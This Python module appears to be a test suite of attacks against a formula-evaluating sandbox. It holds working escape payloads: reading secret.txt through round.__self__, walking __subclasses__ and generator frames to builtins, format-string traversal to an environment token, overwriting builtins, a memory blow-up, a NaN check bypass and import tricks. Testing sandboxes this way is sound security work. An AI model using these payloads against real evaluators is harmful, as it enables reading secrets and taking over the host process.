"""Attacks on working out a formula that a user writes."""

import builtins
import contextlib
import sys
import warnings

from prover import Target

from .stage import Stage


def attack_function_module(target: Target, stage: Stage) -> bool:
    """Ask a function that is allowed for the module it comes from."""
    found = target.work_out("round.__self__.open('secret.txt').read()", stage.figures)
    print(found)
    return stage.secret in found


def attack_subclasses(target: Target, stage: Stage) -> bool:
    """Walk from an empty tuple to a class of the standard library, and to its globals."""
    formula = (
        "[kind for kind in ().__class__.__base__.__subclasses__()"
        " if kind.__name__ == 'IncrementalEncoder'][0]"
        ".__init__.__globals__['__builtins__']['op' + 'en']('secret.txt').read()"
    )
    found = target.work_out(formula, stage.figures)
    print(found)
    return stage.secret in found


def attack_frames(target: Target, stage: Stage) -> bool:
    """Let a generator look at its own frame, and climb to the caller's: no `__` in it."""
    formula = (
        "(lambda box: box.append("
        "(box[0].gi_frame.f_back.f_back.f_back.f_builtins for each in [0])"
        ") or [*box[0]])([])[0]['op' + 'en']('secret.txt').read()"
    )
    found = target.work_out(formula, stage.figures)
    print(found)
    return stage.secret in found


def attack_format(target: Target, stage: Stage) -> bool:
    """Have `str.format` walk the attributes; their names are no code, so no check sees them."""
    formula = (
        "'{{0.{0}self{0}.{0}loader{0}.find_spec.{0}globals{0}[sys].modules[os]"
        ".environ[REPORT_TOKEN]}}'.format('_' * 2).format(round)"
    )
    found = target.work_out(formula, stage.figures)
    print(found)
    return stage.secret in found


def attack_swap_builtin(target: Target, stage: Stage) -> bool:
    """Put `min` in the place of `max`, for the whole program, without a single quote."""
    kept = max
    formula = "round.__self__.setattr(round.__self__, max.__name__, min)"
    try:
        target.work_out(formula, stage.figures)
        print("max(1, 2) is now", max(1, 2))
        return max(1, 2) == 1
    finally:
        builtins.max = kept


def attack_round_to_zeros(target: Target, stage: Stage) -> bool:
    """Round to a place far to the left: for a few digits, a hundred thousand zeros."""
    small = stage.memory_of(lambda: target.work_out("round(1, -1)", stage.figures))
    large = stage.memory_of(lambda: target.work_out("round(1, -100000)", stage.figures))
    print("five more characters took 20 kB more:", large - small > 20_000)
    return large - small > 20_000


def attack_no_number(target: Target, stage: Stage) -> bool:
    """Make a result that is not a number: no limit on the result will ever stop it."""
    total = target.work_out("1e999 - 1e999", stage.figures)
    print(f"total: {total}, above the limit: {total > 1000}, below it: {total <= 1000}")
    return not total > 1000 and not total <= 1000


def attack_crash_the_report(target: Target, stage: Stage) -> bool:
    """Send formulas that end the report with an error that it does not expect."""
    for formula in ("1 / 0", "(1", "min(1)", "most(1)", "2 ** 3", "9" * 400):
        try:
            target.work_out(formula, stage.figures)
        except target.NotAFormula:
            continue
        except (ArithmeticError, LookupError, NameError, SyntaxError, TypeError):
            print("the report ended with", sys.exc_info()[0])
            return True
    return False


def attack_import_by_a_letter(target: Target, stage: Stage) -> bool:
    """Write a name in wide letters: to make them plain, the compiler imports a module."""
    sys.modules.pop("unicodedata", None)
    with contextlib.suppress(target.NotAFormula):
        target.work_out("ｐｒｉｃｅ + 1", stage.figures)  # noqa: RUF001
    print("imported:", "unicodedata" in sys.modules)
    return "unicodedata" in sys.modules


def attack_import_by_a_warning(target: Target, stage: Stage) -> bool:
    """Let a number touch a word: Python warns, and imports a module to show the warning."""
    shown = {}
    for formula in ("1or 2", "1.or 2", "1e0or 2", "1_0or 2", "0x1or 2", "1if 1else 2"):
        sys.modules.pop("linecache", None)
        with warnings.catch_warnings(), contextlib.suppress(target.NotAFormula):
            warnings.simplefilter("always")
            target.work_out(formula, stage.figures)
        shown[formula] = "linecache" in sys.modules
    print("imported linecache:", *(formula for formula in shown if shown[formula]))
    return any(shown.values())
